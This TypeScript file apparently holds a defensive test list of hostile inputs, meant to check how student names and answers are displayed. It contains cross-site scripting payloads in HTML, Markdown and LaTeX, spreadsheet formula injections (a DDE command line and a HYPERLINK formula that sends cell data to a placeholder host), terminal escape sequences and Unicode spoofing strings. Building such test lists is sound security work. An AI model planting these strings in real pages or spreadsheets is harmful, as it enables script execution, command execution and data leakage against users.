/** What a student may call themselves or answer to become active where it is shown: fifty ways. */

const HTML = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '"><svg onload=window.hacked=1>',
  "'><iframe srcdoc='<script>parent.hacked=1</script>'>",
  '</title><script>window.hacked=1</script>',
  '</style><script>window.hacked=1</script>',
  '</textarea><script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<a href="javascript:window.hacked=1">x</a>',
  '[click](javascript:window.hacked=1)',
  '![x](javascript:window.hacked=1)',
  '![x](https://example.org/track.png)',
  '<meta http-equiv="refresh" content="0;url=https://example.org">',
  '<base href="https://example.org/">',
  '<form action="https://example.org"><input name=x autofocus onfocus=window.hacked=1>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></math>',
  '<template><script>window.hacked=1</script></template>',
  '<!--><script>window.hacked=1</script>-->',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '<object data="data:text/html,<script>window.hacked=1</script>"></object>',
  '<link rel=stylesheet href=https://example.org/x.css>',
  '<style>body{display:none}</style>',
  String.raw`$\href{javascript:window.hacked=1}{x}$`,
  String.raw`$\htmlStyle{background:url(https://example.org)}{x}$`,
  String.raw`$\includegraphics{https://example.org/x.png}$`,
  String.raw`$\def\a{\a\a}\a$`,
  '`</code><script>window.hacked=1</script>`',
  ']]><script>window.hacked=1</script>',
];

const TABLES = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '"=1+1"',
  'a,b\n=1+1',
  '%0A=1+1',
];

const TERMINALS = [
  '\u001b[2J\u001b[31mgone',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\b\b\b\bfull points',
  '\u0000null',
];

const READERS = [
  '\u202etxt.exe',
  '\u2066\u2067x\u2069',
  '\u200fabc',
  '\ufeff\u2028line\u2029',
  'Z\u0351\u036b\u0343\u036a\u0302'.repeat(20),
  '\ud800 half',
  '\ufffe\uffff',
  'x'.repeat(1_000_000),
];

export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...TABLES, ...TERMINALS, ...READERS];
